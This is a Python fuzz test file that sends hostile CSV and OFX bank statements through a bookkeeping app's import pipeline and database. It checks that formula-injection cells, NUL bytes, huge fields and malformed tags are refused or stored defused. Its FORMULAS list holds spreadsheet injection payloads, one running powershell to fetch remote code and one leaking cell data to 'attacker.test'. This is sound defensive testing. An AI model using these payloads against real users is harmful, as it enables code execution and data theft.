"""Hostile bank files through the real import path: pipeline, SQLAlchemy, a SQLite database.

``test_importers_fuzz.py`` fuzzes the parser alone; here every generated file goes through
``ledgerflow.books.pipeline.import_statement`` (what the upload-and-categorize job runs) against a
real database with a real company. Whatever the file, the import either succeeds or refuses with
``StatementError`` / ``ImportRefused`` and a short, clear message; it never hangs (each example
runs under a time limit); a refused file inserts nothing; an accepted one stores only clean text
(no formula lead, no NUL or control characters).
"""

from __future__ import annotations

import codecs
import contextlib
import datetime as dt
import itertools
import queue
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import event as hypothesis_event
from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from ledgerflow.books.chart import add_bank_account
from ledgerflow.books.db import make_engine, make_sessionmaker, writer
from ledgerflow.books.importers import StatementError, parse_statement
from ledgerflow.books.models import BankAccount, Transaction
from ledgerflow.books.pipeline import (
    ImportCounts,
    ImportRefused,
    _bank_account,
    import_statement,
)
from ledgerflow.server import migrate, session_for
from ledgerflow.tenancy import new_company

BANKS = Path(__file__).resolve().parents[1] / "data" / "banks"
SAMPLES = sorted(path.read_bytes() for path in BANKS.iterdir() if path.is_file())
EXAMPLE_SECONDS = 60.0  # generous: the machine is shared; a hang is minutes, not seconds
FUZZ = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/ps)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.test/?leak="&A1,"click")',
    "\t=1+1",
    " =1+1",
    "\r=1+1",
    "＝1+1",  # fullwidth equals sign
]
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", " ")


# --- the database -------------------------------------------------------------------------
@dataclass
class Books:
    url: str
    sessions: sessionmaker[Session]
    folder: Path
    acme_bank: str
    globex_bank: str
    acme_eur_bank: str


@pytest.fixture(scope="module")
def books(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Books]:
    folder = tmp_path_factory.mktemp("import-fuzz")
    url = f"sqlite:///{folder / 'books.db'}"
    migrate(url)
    with session_for(url) as session:
        new_company(session, "acme", "Acme Inc")
        new_company(session, "globex", "Globex")
        acme = add_bank_account(session, "acme", "Checking", "bank", "USD").id
        acme_eur = add_bank_account(session, "acme", "Euro account", "bank", "EUR").id
        globex = add_bank_account(session, "globex", "Checking", "bank", "USD").id
    engine = make_engine(url)
    try:
        yield Books(url, make_sessionmaker(writer(engine)), folder, acme, globex, acme_eur)
    finally:
        engine.dispose()


def event(name: str) -> None:
    """A hypothesis statistics event (accepted / refused), ignored outside a property test."""
    with contextlib.suppress(InvalidArgument):
        hypothesis_event(name)


def count(books: Books, job_id: str | None = None) -> int:
    with books.sessions() as session:
        query = select(func.count()).select_from(Transaction)
        if job_id is not None:
            query = query.where(Transaction.import_job_id == job_id)
        return int(session.scalar(query) or 0)


def bank_accounts(books: Books) -> int:
    with books.sessions() as session:
        return int(session.scalar(select(func.count()).select_from(BankAccount)) or 0)


def run_with_limit(seconds: float, fn: Any, *args: Any) -> Any:
    """``fn(*args)`` in a daemon thread; AssertionError if it takes longer than ``seconds``."""
    answers: queue.Queue[tuple[bool, Any]] = queue.Queue()

    def target() -> None:
        try:
            answers.put((True, fn(*args)))
        except BaseException as exc:
            answers.put((False, exc))

    threading.Thread(target=target, daemon=True, name="import-fuzz").start()
    try:
        ok, value = answers.get(timeout=seconds)
    except queue.Empty:
        raise AssertionError(f"the import hung for more than {seconds:.0f} s") from None
    if not ok:
        raise value
    return value


def check_import(
    books: Books, content: bytes, name: str = "statement.csv", bank: str | None = None
) -> ImportCounts | None:
    """Import ``content`` as a job would; assert the contract; the counts, or None if refused."""
    path = books.folder / f"upload-{uuid.uuid4().hex}"
    path.write_bytes(content)
    job_id = f"job_fuzz_{uuid.uuid4().hex[:20]}"
    before, accounts_before = count(books), bank_accounts(books)
    marks: list[float] = []

    def progress(percent: float, message: str) -> None:
        assert isinstance(message, str) and message
        marks.append(percent)

    try:
        counts: ImportCounts = run_with_limit(
            EXAMPLE_SECONDS,
            import_statement,
            books.sessions,
            "acme",
            path,
            name,
            bank,
            job_id,
            progress,
        )
    except (StatementError, ImportRefused) as refused:
        message = str(refused)
        assert message.strip(), "a refusal says why"
        assert len(message) < 4000, f"a clear error, not a dump: {len(message)} characters"
        assert "Traceback" not in message
        assert count(books, job_id) == 0, "a refused file inserts nothing"
        assert count(books) == before
        assert bank_accounts(books) == accounts_before, "nor creates a bank account"
        event(f"refused: {type(refused).__name__}")
        return None
    finally:
        path.unlink(missing_ok=True)
    event("accepted")
    assert marks == sorted(marks) and all(0 <= m <= 50 for m in marks), marks
    assert counts.inserted == count(books, job_id) == count(books) - before
    assert counts.inserted + counts.duplicates == counts.parsed >= 1
    with books.sessions() as session:
        stored = session.scalars(
            select(Transaction).where(Transaction.import_job_id == job_id)
        ).all()
        for txn in stored:
            for text in (txn.description, txn.memo or "", txn.external_id or ""):
                assert "\x00" not in text
                assert not any(ord(c) < 32 for c in text), repr(text)
            # (an empty description is allowed: a row may have neither name nor memo)
            assert not txn.description.startswith(FORMULA_LEADS), repr(txn.description)
            assert len(txn.description) <= 500
            assert len(txn.currency) == 3 and txn.currency.isupper()
            assert dt.date(1900, 1, 1) <= txn.date <= dt.date(2199, 12, 31)
            assert txn.company_id == "acme"
    return counts


# --- strategies -----------------------------------------------------------------------------
ENCODINGS = [
    "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "latin-1",
    "shift_jis", "koi8-r", "cp437", "mac_roman",
]  # fmt: skip
DATE_FORMATS = [
    "%Y-%m-%d", "%m/%d/%Y", "%d/%m/%Y", "%m/%d/%y", "%d.%m.%Y", "%Y%m%d", "%b %d, %Y",
    "%d-%b-%Y", "%Y/%m/%d", "%A %d %B %Y", "%m-%d-%Y %H:%M", "%Y-%m-%dT%H:%M:%S",
]  # fmt: skip
HEADERS = [
    ["Date", "Description", "Amount"],
    ["Details", "Posting Date", "Description", "Amount", "Type", "Balance", "Check or Slip #"],
    ["Transaction Date", "Post Date", "Description", "Category", "Type", "Amount", "Memo"],
    ["Date", "Description", "Card Member", "Account #", "Amount", "Extended Details", "Reference"],
    ["Transaction Date", "Posted Date", "Card No.", "Description", "Category", "Debit", "Credit"],
    ["Date", "Payee", "Debit", "Credit", "Balance"],
]
DATES = st.builds(
    lambda d, fmt: d.strftime(fmt),
    st.dates(min_value=dt.date(1850, 1, 1), max_value=dt.date(2250, 12, 31)),
    st.sampled_from(DATE_FORMATS),
)
GOOD_DATES = st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2030, 12, 31))
GOOD_AMOUNTS = st.decimals(min_value=-(10**6), max_value=10**6, places=2).map(str)
AMOUNTS = st.one_of(
    st.decimals(min_value=-(10**7), max_value=10**7, places=2).map(str),
    st.sampled_from(
        ["(1,234.56)", "12.34-", "1.234,56", "$-3", "45.00 CR", "1e308", "NaN", "-0", "9" * 60]
    ),
)
HOSTILE_CELLS = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(["\x00", "a\x00b", "\x00" * 64, "\ufeff", "\u202e evil", "\x1b[31m", '"']),
    st.text(max_size=40),
    st.binary(max_size=40).map(lambda b: b.decode("latin-1")),
)
MERCHANTS = st.sampled_from(["STARBUCKS #123", "AMAZON.COM*RT4K2", "Café", "Ω", "中文"])
TEXT_POOLS = {
    "plain": st.one_of(MERCHANTS, st.text(st.characters(exclude_categories=("Cc", "Cs")))),
    "formula": st.one_of(MERCHANTS, st.sampled_from(FORMULAS)),
    "binary": st.one_of(MERCHANTS, HOSTILE_CELLS),
}
HUGE = st.sampled_from([70_000, 300_000]).map(lambda n: "A" * n)


def _encode(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


@st.composite
def hostile_csv(draw: st.DrawFn) -> bytes:
    """A plausible bank export with hostile text, mixed date formats and, in some files, broken
    values, huge fields or an encoding that does not fit."""
    header = draw(st.sampled_from(HEADERS))
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    broken = draw(st.sampled_from([0, 0, 0, 50, 10]))  # one bad date/amount in N, 0: none
    texts = TEXT_POOLS[draw(st.sampled_from(["plain", "formula", "formula", "binary"]))]
    date_format = draw(st.sampled_from(["%Y-%m-%d", "%m/%d/%Y", "%Y%m%d", "%b %d, %Y"]))
    lines = [delimiter.join(header)]
    for _ in range(draw(st.integers(1, 25))):
        cells = []
        credit = draw(st.booleans())  # which of Debit / Credit holds the amount
        for column in header:
            lowered = column.lower()
            if "date" in lowered:
                # broken files mix date formats row by row; the others keep one
                cell = draw(DATES) if broken else draw(GOOD_DATES).strftime(date_format)
            elif lowered in ("debit", "credit") and not broken and credit != (lowered == "credit"):
                cell = ""
            elif lowered in ("amount", "debit", "credit", "balance"):
                cell = draw(AMOUNTS) if broken else draw(GOOD_AMOUNTS)
            else:
                cell = draw(texts)
            if broken and draw(st.integers(0, broken * 10)) == 0:
                cell = draw(HUGE)
            if delimiter in cell or '"' in cell or "\n" in cell or "\r" in cell:
                cell = '"' + cell.replace('"', '""') + '"'
            cells.append(cell)
        lines.append(delimiter.join(cells))
    text = draw(st.sampled_from(["\n", "\r\n", "\r"])).join(lines) + "\n"
    style = draw(st.sampled_from(["utf-8", "utf-8", "one", "mixed"]))
    if style == "utf-8":
        return text.encode()
    if style == "one":
        return _encode(text, draw(st.sampled_from(ENCODINGS)))
    # Mixed encodings: every line in its own one, as a file concatenated from several exports.
    return b"\n".join(_encode(line, draw(st.sampled_from(ENCODINGS))) for line in lines)


@st.composite
def wide_csv(draw: st.DrawFn) -> bytes:
    """A header, then a line with up to a million columns (or a header that wide)."""
    columns = draw(st.sampled_from([201, 5_000, 1_000_000]))
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    wide = delimiter.join(itertools.repeat(draw(st.sampled_from(["", "x", "=1+1"])), columns))
    good = delimiter.join(["2024-01-05", "COFFEE", "-3.50"])
    header = delimiter.join(["Date", "Description", "Amount"])
    lines = [wide, good] if draw(st.booleans()) else [header, good, wide, good]
    return ("\n".join(lines) + "\n").encode()


OFX_TRANSACTION = (
    "<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>{date}<TRNAMT>{amount}<FITID>{fitid}<NAME>{name}"
    "<MEMO>{memo}</STMTTRN>"
)


@st.composite
def hostile_ofx(draw: st.DrawFn) -> bytes:
    """OFX with hostile values, unclosed or deeply nested tags, and wrong charsets."""
    header = draw(
        st.sampled_from(
            [
                "OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\nCHARSET:1252\n\n",
                '<?xml version="1.0" encoding="UTF-8"?><?OFX OFXHEADER="200"?>',
                "",
            ]
        )
    )
    clean = draw(st.booleans())
    transactions = []
    for _ in range(draw(st.integers(0, 8))):
        transactions.append(
            OFX_TRANSACTION.format(
                date=draw(
                    st.just("20240105")
                    if clean
                    else st.sampled_from(["20240105", "2024", "20241399", "19000101", "x"])
                ),
                amount=draw(GOOD_AMOUNTS if clean else AMOUNTS),
                fitid=draw(st.sampled_from(["1", "A" * 150, "B" * 199, "C" * 5000, ""])),
                name=draw(st.one_of(st.sampled_from(FORMULAS), HOSTILE_CELLS)),
                memo=draw(HOSTILE_CELLS),
            )
        )
    depth = 0 if clean else draw(st.sampled_from([0, 10, 1_000, 100_000]))
    nest = draw(st.sampled_from(["<AGGREGATE>", "<STMTTRN>", "<OFX>", "<BANKTRANLIST>", "<"]))
    body = (
        "<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>"
        + draw(st.just("USD") if clean else st.sampled_from(["USD", "EUR", "usd", "", "DOLLARS"]))
        + "<BANKTRANLIST>"
        + nest * depth
        + "".join(transactions)
    )
    if clean or draw(st.booleans()):  # closed properly, or cut anywhere
        body += "</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>"
    else:
        body = body[: draw(st.integers(0, len(body)))]
    encodings = ["utf-8"] if clean else ["utf-8", "cp1252", "utf-16", "utf-32", "shift_jis"]
    return _encode(header + body, draw(st.sampled_from(encodings)))


@st.composite
def poisoned_samples(draw: st.DrawFn) -> bytes:
    """A real bank file with hostile bytes spliced in (NULs, formulas, huge runs, BOMs)."""
    data = bytearray(draw(st.sampled_from(SAMPLES)))
    for _ in range(draw(st.integers(1, 5))):
        position = draw(st.integers(0, len(data)))
        chunk = draw(
            st.sampled_from(
                [
                    b"\x00",
                    b"\x00" * 100,
                    FORMULAS[0].encode(),
                    b"\xff\xfe",
                    codecs.BOM_UTF8,
                    b"\r",
                    b'"',
                    b"\xc3\x28",  # invalid UTF-8
                    b"9" * 500,
                    b"Z" * 100_000,
                ]
            )
        )
        data[position:position] = chunk
    return bytes(data)


def bank_choice(books: Books, which: str) -> str | None:
    return {
        "auto": None,
        "acme": books.acme_bank,
        "acme-eur": books.acme_eur_bank,  # a currency mismatch for USD files
        "globex": books.globex_bank,  # another company's account: refused as not found
        "bogus": "bank_" + "0" * 26,
    }[which]


BANKS_CHOICE = st.sampled_from(["auto", "auto", "acme", "acme-eur", "globex", "bogus"])


# --- tests ----------------------------------------------------------------------------------
@FUZZ
@given(content=hostile_csv(), which=BANKS_CHOICE)
@example(content=b"Date,Description,Amount\n2024-01-05,=cmd|' /C calc'!A0,-1.00\n", which="auto")
@example(content=b"Date,Description,Amount\n2024-01-05,CAFE\x00BAR,-1.00\n", which="acme")
@example(
    content=b"Date,Description,Amount\n2024-01-05,A,-1.00\n01/06/2024,B,-2.00\n7.1.2024,C,1\n",
    which="auto",
)
def test_hostile_csv(books: Books, content: bytes, which: str) -> None:
    check_import(books, content, "statement.csv", bank_choice(books, which))


@settings(FUZZ, max_examples=12)
@given(content=wide_csv())
@example(content=("Date,Description,Amount\n" + "," * 999_999 + "\n").encode())
def test_million_columns(books: Books, content: bytes) -> None:
    check_import(books, content, "wide.csv")


@FUZZ
@given(content=hostile_ofx(), name=st.sampled_from(["bank.ofx", "bank.qfx", "bank.csv"]))
@example(content=b"OFXHEADER:100\n\n<OFX>" + b"<STMTTRN>" * 200_000, name="deep.ofx")
@example(content=b"<OFX>" + b"<" * 500_000, name="brackets.ofx")
def test_hostile_ofx(books: Books, content: bytes, name: str) -> None:
    check_import(books, content, name)


@FUZZ
@given(content=poisoned_samples(), which=BANKS_CHOICE)
def test_poisoned_real_files(books: Books, content: bytes, which: str) -> None:
    check_import(books, content, "statement.csv", bank_choice(books, which))


@FUZZ
@given(
    content=st.binary(max_size=2048),
    name=st.sampled_from(["a.csv", "a.ofx", "a.qfx", "a", "a.exe"]),
)
def test_random_bytes(books: Books, content: bytes, name: str) -> None:
    check_import(books, content, name)


def test_formula_cells_are_stored_defused(books: Books) -> None:
    rows = "".join(f'2024-02-{i + 1:02d},"{f.replace(chr(34), 2 * chr(34))}",-1.00\n' for i, f in
                   enumerate(FORMULAS))  # fmt: skip
    counts = check_import(books, ("Date,Description,Amount\n" + rows).encode(), "formulas.csv")
    assert counts is not None and counts.parsed == len(FORMULAS)


def test_refusal_leaves_no_partial_rows(books: Books) -> None:
    good = "".join(f"2024-03-{i % 28 + 1:02d},SHOP {i},-{i}.00\n" for i in range(1, 5000))
    content = ("Date,Description,Amount\n" + good + "2024-03-01,BROKEN,abc\n").encode()
    assert check_import(books, content, "late-error.csv") is None


# --- found by this fuzzing: the parser's limits exceeded the columns' (fixed in 4054a1d) -------
LONG_VALUES = {
    # EXTERNAL_ID_MAX is 255 (importers/text.py); lf_transactions.external_id is VARCHAR(200)
    "fitid": (
        "bank.ofx",
        "OFXHEADER:100\n\n<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>USD<BANKTRANLIST>"
        "<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20240105<TRNAMT>-1.00<FITID>" + "F" * 230 + "<NAME>COFFEE"
        "</STMTTRN></BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>\n",
    ),
    # merchant_key keeps four words of any length; lf_transactions.merchant is VARCHAR(200)
    # (PostgreSQL enforces the widths: the import used to fail with DataError)
    "merchant": ("bank.csv", "Date,Description,Amount\n2024-01-05," + "M" * 300 + ",-1.00\n"),
}


@pytest.mark.parametrize("case", sorted(LONG_VALUES))
def test_long_values_import_on_every_engine(db_url: str, tmp_path: Path, case: str) -> None:
    migrate(db_url)
    with session_for(db_url) as session:
        new_company(session, "acme", "Acme Inc")
    engine = make_engine(db_url)
    try:
        name, text = LONG_VALUES[case]
        path = tmp_path / name
        path.write_text(text)
        try:
            counts = import_statement(
                make_sessionmaker(writer(engine)), "acme", path, name, None, "job_x", _ignore
            )
        except (StatementError, ImportRefused):
            return  # a clear refusal would be fine too
        assert counts.inserted == 1
    finally:
        engine.dispose()


def _ignore(percent: float, message: str) -> None:
    return None


def test_concurrent_imports_of_one_layout_share_the_new_bank_account(
    db_url: str, tmp_path: Path
) -> None:
    """Both imports create "Chase checking" if it is missing; the second waits, then uses it."""
    migrate(db_url)
    with session_for(db_url) as session:
        new_company(session, "acme", "Acme Inc")
    engine = make_engine(db_url)
    sessions = make_sessionmaker(writer(engine))
    header = "Details,Posting Date,Description,Amount,Type,Balance,Check or Slip #\n"
    files = []
    for i in range(2):
        path = tmp_path / f"chase{i}.csv"
        path.write_text(header + f"DEBIT,11/0{i + 1}/2026,SHOP {i},-4.50,DEBIT_CARD,1.00,\n")
        files.append(path)
    results: list[object] = []
    try:
        first = sessions()
        statement = parse_statement(files[0], file_name="chase0.csv")
        held = _bank_account(first, "acme", None, statement)  # created, not committed
        second = threading.Thread(
            target=lambda: results.append(
                import_statement(sessions, "acme", files[1], "chase1.csv", None, "job_2", _ignore)
            )
        )
        second.start()
        second.join(0.5)  # it now waits for the first transaction (lock or unique index)
        first.commit()
        first.close()
        second.join(30)
        assert len(results) == 1, "the second import finished"
        assert isinstance(results[0], ImportCounts) and results[0].bank_account_id == held.id
        with session_for(db_url) as session:
            names = session.scalars(
                select(BankAccount.name).where(BankAccount.company_id == "acme")
            )
            assert list(names) == ["Chase checking"]
    finally:
        engine.dispose()
